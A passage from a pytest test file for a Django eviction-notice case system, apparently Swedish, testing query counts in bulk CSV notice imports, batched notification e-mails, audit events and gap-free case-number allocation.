    done = next(i for i, q in enumerate(sql) if q.startswith('UPDATE "imports_noticeimport"') and "'DONE'" in q)
    return sql[:done + 1]


@pytest.mark.django_db
def test_the_commit_reads_the_plan_landlords_and_recipients_once_not_once_per_row(advisor, eager, django_capture_on_commit_callbacks):
    """Issue 14, Scale: what is the same for every row is read once per chunk; each row costs its own writes only."""
    from cases.models import Notification

    small = _commit_queries(advisor, django_capture_on_commit_callbacks, 0, 10)
    large = _commit_queries(advisor, django_capture_on_commit_callbacks, 100, 40)
    per_row = (len(large) - len(small)) / 30
    # Issue 16: the case numbers taken per chunk, not per row (14.9 on PostgreSQL before; now 13.9 on PostgreSQL, 14.7 on SQLite).
    from django.db import connection as db

    assert per_row <= (14 if db.vendor == "postgresql" else 15), per_row
    for table in ("cases_planconfiguration", "cases_landlord", "organisation_user", "bosam_meeting", "organisation_unit"):
        reads = [sum(1 for sql in run if sql.startswith("SELECT") and f'FROM "{table}"' in sql) for run in (small, large)]
        assert reads[0] == reads[1], (table, reads)
    # Every row still told the units' case workers, and every case got its import event in the audit log.
    cases = Case.objects.filter(notices__landlord_reference__startswith="").distinct()
    assert Notification.objects.filter(url__contains="/arenden/").values("url").distinct().count() == cases.count() == 50
    imported = AuditEvent.objects.filter(action=AuditAction.NOTICE_IMPORT, case__isnull=False)
    assert sorted(imported.values_list("case_id", flat=True)) == sorted(cases.values_list("pk", flat=True))
    assert all(e.without_assignment == (not e.case.assignments.filter(unit=advisor.unit, ended_at__isnull=True).exists())
               for e in imported)


@pytest.mark.django_db
def test_an_import_sends_one_email_per_person_not_one_per_case(advisor, eager, django_capture_on_commit_callbacks, mailoutbox):
    """A case worker who chose e-mail immediately gets one e-mail for a 25-row import, listing 20 and counting the rest."""
    from cases.models import Notification

    result = commit(advisor, preview(advisor, csv_bytes([good_row(i, today=TODAY) for i in range(25)])), rows="ALL",
                    capture=django_capture_on_commit_callbacks)
    assert result.status == ImportStatus.DONE and result.created_cases == 25
    told = set(Notification.objects.filter(user__email__gt="").values_list("user__email", flat=True))
    assert told
    assert sorted(m.to[0] for m in mailoutbox) == sorted(told)
    for message in mailoutbox:
        assert message.subject == "25 nya aviseringar från Avhysning"
        assert message.body.count("\n- ") == 20 and message.body.startswith("Dina aviseringar:\n- ")
        assert "… och 5 till." in message.body and "/arenden/aviseringar/" in message.body
    assert not Notification.objects.filter(user__email__gt="", emailed_at__isnull=True).exists()


@pytest.mark.django_db
def test_the_commit_takes_case_numbers_per_chunk_and_leaves_no_gaps(advisor, organisation, eager, django_capture_on_commit_callbacks,
                                                                  monkeypatch):
    """Issue 16: the new cases of a chunk take their numbers in one statement; the ones a row that joins did not use
    are given back, so the numbering goes on without a gap (chunks of 3 here)."""
    from cases.models import CaseNumberSequence
    from tests.factories import household_data, notice_data

    real_chunked = services._chunked
    monkeypatch.setattr(services, "_chunked", lambda rows: real_chunked(rows, size=3))
    first = register(organisation, advisor, today=TODAY, notice=notice_data(received=TODAY.isoformat()),
                     household=household_data(tenant_birth="19551231", serial=990)).case
    rows = [good_row(i, today=TODAY) for i in range(1, 6)]
    # Row 6 is row 2's tenant again (joins the case row 2 opens), row 7 the case registered before the import.
    rows.append(good_row(6, today=TODAY, pin=rows[1][2], reference="REF-JOIN"))
    rows.append(good_row(7, today=TODAY, pin=first.household.members.get(role="TENANT").personal_identity_number))
    result = commit(advisor, preview(advisor, csv_bytes(rows)), rows="ALL", capture=django_capture_on_commit_callbacks)
    assert result.status == ImportStatus.DONE and (result.created_cases, result.joined_cases) == (5, 1)
    year = TODAY.year
    assert sorted(Case.objects.values_list("number", flat=True)) == [f"{year}-{n:04d}" for n in range(1, 7)]
    assert CaseNumberSequence.objects.get(organisation=organisation, year=year).last == 6
    after = register(organisation, advisor, today=TODAY, notice=notice_data(received=TODAY.isoformat()),
                     household=household_data(tenant_birth="19560101", serial=991)).case
    assert after.number == f"{year}-0007"


@pytest.mark.django_db
def test_case_numbers_taken_ahead_and_not_used_are_given_back(advisor, organisation, django_assert_num_queries):
    from cases.models import CaseNumberSequence
    from cases.services.intake import CaseNumbers

    year = TODAY.year
    CaseNumberSequence.objects.create(organisation=organisation, year=year, last=4)
    numbers = CaseNumbers(organisation, wanted=3)
    with django_assert_num_queries(2):  # one UPDATE for three numbers, one more when they run out
        assert [numbers.take(year) for _ in range(4)] == [5, 6, 7, 8]
    assert CaseNumberSequence.objects.get(organisation=organisation, year=year).last == 8
    numbers.wanted = 5
    assert numbers.take(year) == 9 and numbers.take(year + 1) == 1  # another year: its own row
    numbers.release()
    assert dict(CaseNumberSequence.objects.filter(organisation=organisation).values_list("year", "last")) == {year: 9, year + 1: 1}
    assert numbers.take(year) == 10  # nothing left over: taken afresh
